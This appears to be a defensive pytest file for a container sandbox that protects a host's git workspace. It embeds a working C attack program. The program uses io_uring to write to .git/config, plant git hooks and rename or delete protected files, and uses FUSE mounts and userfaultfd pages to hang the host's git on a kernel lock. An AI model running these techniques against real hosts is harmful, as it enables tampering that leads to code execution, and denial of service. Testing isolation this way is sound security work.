"""System calls by which a container might get at what is sealed, or hold up a program of the host.

The host judges: is what is sealed the same to the byte, can the person still read, rename and remove each file, and
does git there go on? Each attack is made without the wall, too. Some have no effect there either: the kernel gives
the means to the host's root alone, or the effect stays in the container. They are here for the next kernel.
"""

from __future__ import annotations

import contextlib
import os
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest
from agent_program import compiled
from test_protection_attacks import refill
from wall_box import CODE, EVIL, OWNER, PROTECTED, kept_container, new_box, planted, snapshot

from tests.programs import DEADLINE

# Words: what to do, and for most of it a path.
CALLS = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <linux/io_uring.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int ring = -1;
static struct io_uring_params about;
static char *sq, *cq;
static struct io_uring_sqe *entries;

static void setup(void)
{
    ring = syscall(SYS_io_uring_setup, 4, &about);
    if (ring < 0)
        return;
    sq = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    cq = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
    entries = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
}

/* One operation, done by a thread of the kernel's own (IOSQE_ASYNC); its result. */
static int done(int op, int fd, const void *path, uint64_t other, uint32_t length, uint32_t flags)
{
    if (ring < 0)
        return -ENOSYS;
    struct io_uring_sqe *one = entries;
    memset(one, 0, sizeof *one);
    one->opcode = op;
    one->flags = IOSQE_ASYNC;
    one->fd = fd;
    one->addr = (uint64_t)(uintptr_t)path;
    one->off = other;
    one->len = length;
    one->rename_flags = flags;
    unsigned *tail = (unsigned *)(sq + about.sq_off.tail);
    unsigned *array = (unsigned *)(sq + about.sq_off.array);
    unsigned mask = *(unsigned *)(sq + about.sq_off.ring_mask);
    array[*tail & mask] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
    unsigned *head = (unsigned *)(cq + about.cq_off.head);
    struct io_uring_cqe *found = (struct io_uring_cqe *)(cq + about.cq_off.cqes);
    int result = found[*head & *(unsigned *)(cq + about.cq_off.ring_mask)].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return result;
}

static void by_ring(void)
{
    const char *text = "EVIL\n";
    setup();
    int file = done(IORING_OP_OPENAT, AT_FDCWD, ".git/config", 0, 0600, O_WRONLY | O_APPEND);
    if (file >= 0)
        done(IORING_OP_WRITE, file, text, 0, 5, 0);
    file = done(IORING_OP_OPENAT, AT_FDCWD, ".git/hooks/by-ring", 0, 0755, O_WRONLY | O_CREAT);
    if (file >= 0)
        done(IORING_OP_WRITE, file, text, 0, 5, 0);
    close(open("evil", O_WRONLY | O_CREAT, 0755));
    done(IORING_OP_LINKAT, AT_FDCWD, "evil", (uintptr_t)".git/hooks/linked", AT_FDCWD, 0);
    done(IORING_OP_SYMLINKAT, AT_FDCWD, "evil", (uintptr_t)".git/hooks/symlinked", 0, 0);
    done(IORING_OP_MKDIRAT, AT_FDCWD, ".git/hooks/folder", 0, 0755, 0);
    done(IORING_OP_RENAMEAT, AT_FDCWD, "evil", (uintptr_t)".git/config", AT_FDCWD, 0);
    done(IORING_OP_RENAMEAT, AT_FDCWD, ".git/hooks", (uintptr_t)".git/h", AT_FDCWD, 0);
    done(IORING_OP_UNLINKAT, AT_FDCWD, ".git/config", 0, 0, 0);
    done(IORING_OP_UNLINKAT, AT_FDCWD, ".husky", 0, 0, AT_REMOVEDIR);
}

static void by_fuse(const char *path)
{
    int device = open("/dev/fuse", O_RDWR);
    char words[100];
    struct stat place;
    stat(path, &place);
    snprintf(words, sizeof words, "fd=%d,rootmode=%o,user_id=0,group_id=0", device, place.st_mode & S_IFMT);
    if (mount("evil", path, "fuse", MS_NOSUID | MS_NODEV, words))
        return;
    puts("mounted");
    fflush(stdout);
    pause(); /* nobody answers */
}

/* Answers all but a read of the one file, which the file system is. */
static void serve_fuse(int device, int begun)
{
    static char request[1 << 18];
    struct fuse_in_header *in = (struct fuse_in_header *)request;
    while (read(device, request, sizeof request) > 0) {
        struct {
            struct fuse_out_header head;
            union {
                struct fuse_init_out init;
                struct fuse_attr_out attr;
                struct fuse_open_out open;
            };
        } out = {.head = {.unique = in->unique, .len = sizeof out.head}};
        if (in->opcode == FUSE_READ) {
            write(begun, "x", 1);
            continue;
        }
        if (in->opcode == FUSE_INIT) {
            out.init = (struct fuse_init_out){.major = 7, .minor = 31, .max_write = 4096};
            out.head.len += sizeof out.init;
        } else if (in->opcode == FUSE_GETATTR) {
            out.attr.attr = (struct fuse_attr){.ino = 1, .mode = S_IFREG | 0666, .size = 65536, .nlink = 1};
            out.head.len += sizeof out.attr;
        } else if (in->opcode == FUSE_OPEN) {
            out.head.len += sizeof out.open;
        } else {
            out.head.error = -ENOSYS;
        }
        write(device, &out, out.head.len);
    }
    _exit(0);
}

/* Memory whose pages nobody brings, and a descriptor that is readable once the kernel waits for one. */
static void *page_of_fuse(int *begun)
{
    const char *place = "/tmp/page";
    char words[100];
    struct stat about;
    int device = open("/dev/fuse", O_RDWR), ends[2];
    close(open(place, O_WRONLY | O_CREAT, 0600));
    snprintf(words, sizeof words, "fd=%d,rootmode=100000,user_id=0,group_id=0", device);
    if (mount("page", place, "fuse", MS_NOSUID | MS_NODEV, words) || pipe(ends))
        return MAP_FAILED;
    if (!fork())
        serve_fuse(device, ends[1]);
    close(device); /* the file system ends with its server */
    *begun = ends[0];
    int file = open(place, O_RDWR);
    fstat(file, &about);
    return mmap(0, 65536, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
}

static void *page_of_userfaultfd(int *begun)
{
    struct uffdio_api api = {.api = UFFD_API};
    void *page = mmap(0, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register about = {{(uintptr_t)page, 65536}, UFFDIO_REGISTER_MODE_MISSING};
    *begun = syscall(SYS_userfaultfd, O_CLOEXEC);
    if (*begun < 0)
        *begun = open("/dev/userfaultfd", O_RDWR);
    if (ioctl(*begun, UFFDIO_API, &api) || ioctl(*begun, UFFDIO_REGISTER, &about))
        return MAP_FAILED;
    return page;
}

/* Reads a folder into such a page: its lock is held until the page comes. */
static void hold(const char *path, void *(*source)(int *))
{
    int begun = -1;
    void *page = source(&begun);
    if (page == MAP_FAILED)
        return;
    if (!fork()) {
        struct pollfd one = {.fd = begun, .events = POLLIN};
        poll(&one, 1, -1);
        puts("held");
        fflush(stdout);
        _exit(0);
    }
    syscall(SYS_getdents64, open(path, O_RDONLY | O_DIRECTORY), page, 65536);
}

int main(int count, char **words)
{
    const char *path = count > 2 ? words[2] : "";
    if (!strcmp(words[1], "ring"))
        by_ring();
    if (!strcmp(words[1], "fuse"))
        by_fuse(path);
    if (!strcmp(words[1], "fuse-page"))
        hold(path, page_of_fuse);
    if (!strcmp(words[1], "userfaultfd"))
        hold(path, page_of_userfaultfd);
    return 0;
}
""".replace("EVIL", EVIL)

PROGRAM = "/tmp/calls"
# In the background, for as long as the host looks; it goes on once the program has said something, or has ended.
HELD = """said=/tmp/said-$(id -u) over=/tmp/over-$$; rm -f $said
{ timeout 20 %s >$said; : >$over; } 2>/dev/null & until [ -s $said ] || [ -e $over ]; do sleep 0.05; done"""
# Ends the program: what it holds, the next one could not have.
END = f"pkill -f '^timeout 20 {PROGRAM}'; while pgrep -f '^{PROGRAM}' >/dev/null; do sleep 0.05; done"


class Attack(NamedTuple):
    """A script, and what comes of it."""

    script: str
    users: tuple[int, ...] = ()  # for whom it has an effect on the host where no wall is
    says: str = ""  # what the program says where root runs it: an attack that the kernel lets begin
    begins: bool = True  # with the wall, too


def is_for_everybody() -> bool:
    """Whether this kernel lets more than the host's root wait in the kernel for a page of userfaultfd."""
    with contextlib.suppress(FileNotFoundError):
        return Path("/proc/sys/vm/unprivileged_userfaultfd").read_text().strip() == "1"
    return False


ATTACKS = {
    "io_uring": Attack(f"{PROGRAM} ring", (CODE, 0)),
    "fuse over what is sealed": Attack(HELD % f"{PROGRAM} fuse /workspace/.git/hooks", (), "mounted", False),
    "fuse over a file of git's": Attack(HELD % f"{PROGRAM} fuse /workspace/.git/HEAD", (), "mounted", False),
    "a page that fuse does not bring": Attack(HELD % f"{PROGRAM} fuse-page /workspace/.git", (0,), "held", False),
    "a page of userfaultfd": Attack(
        HELD % f"{PROGRAM} userfaultfd /workspace/.git", *(((CODE, 0), "held", False) if is_for_everybody() else ())
    ),
}


@pytest.fixture(scope="module")
def calls(tmp_path_factory) -> bytes:
    return compiled(tmp_path_factory.mktemp("calls"), CALLS).read_bytes()


@pytest.fixture(scope="module")
def box(bed):
    with new_box(bed) as made:
        yield made


@pytest.fixture(scope="module", params=["locked", "off"])
def walled(request, bed, box, calls):
    """A container with the wall, and one without."""
    with kept_container(bed, box, box.protection(request.param)) as name:
        lay_program(box, name, calls)
        yield request.param, name
        box.delete(name)


def lay_program(box, name: str, calls: bytes) -> None:
    assert box.incus.exec(name, ["sh", "-c", f"cat >{PROGRAM}; chmod 755 {PROGRAM}"], stdin=calls).code == 0


def effects(box, name: str, script: str, user: int) -> list[str]:
    """What the host sees of an attack: something sealed is another thing, or git or a person is held up."""
    before = snapshot(box.root, PROTECTED)
    whole = f"cd /workspace || exit 99\n(\n{script}\n) </dev/null >/dev/null 2>&1\n:"
    assert box.incus.exec(name, ["sh"], stdin=whole.encode(), user=user, timeout=DEADLINE).code == 0
    found = [*troubles(box, name)]
    after = snapshot(box.root, PROTECTED)
    found += [path for path in before.keys() | after.keys() if before.get(path) != after.get(path)]
    found += [*planted(box.root)]
    assert box.run(name, END, 0).code == 0
    return found


def troubles(box, name: str) -> Iterator[str]:
    """What the person's `git status` has: it fails, or it waits for a lock of the kernel's, where no signal ends it."""
    words = ["git", "-C", str(box.root), "status", "--porcelain"]
    environment = {"PATH": os.environ["PATH"], "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1"}
    with subprocess.Popen(
        words,
        user=OWNER,
        group=OWNER,
        extra_groups=[],
        env=environment,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    ) as git:
        waited = 0
        while git.poll() is None and waited < 40:
            state = Path(f"/proc/{git.pid}/stat").read_text().rpartition(")")[2].split()[0]
            waited = waited + 1 if state == "D" else 0
            time.sleep(0.05)
        if git.poll() is None:
            yield "git waits for the kernel"
            box.run(name, END, 0)
        assert git.stderr is not None
        said = git.stderr.read()
        if git.wait():
            yield said


@pytest.fixture
def template(box, tmp_path):
    """The workspace is as it was again after a test."""
    subprocess.run(["cp", "-a", box.root, tmp_path / "work"], check=True)
    yield
    if snapshot(box.root, PROTECTED) != snapshot(tmp_path / "work", PROTECTED):
        refill(box.root, tmp_path / "work")


@pytest.mark.usefixtures("template")
@pytest.mark.parametrize("user", [CODE, 0], ids=["code", "root"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_call_reaches_nothing_of_the_host_with_the_wall(box, walled, attack, user):
    level, name = walled
    row = ATTACKS[attack]
    found = effects(box, name, row.script, user)
    assert bool(found) == (user in row.users and level == "off"), found
    says = row.says if row.begins or level == "off" else ""
    assert user != 0 or box.run(name, "cat /tmp/said-0; rm -f /tmp/said-0", 0).stdout.decode().strip() == says
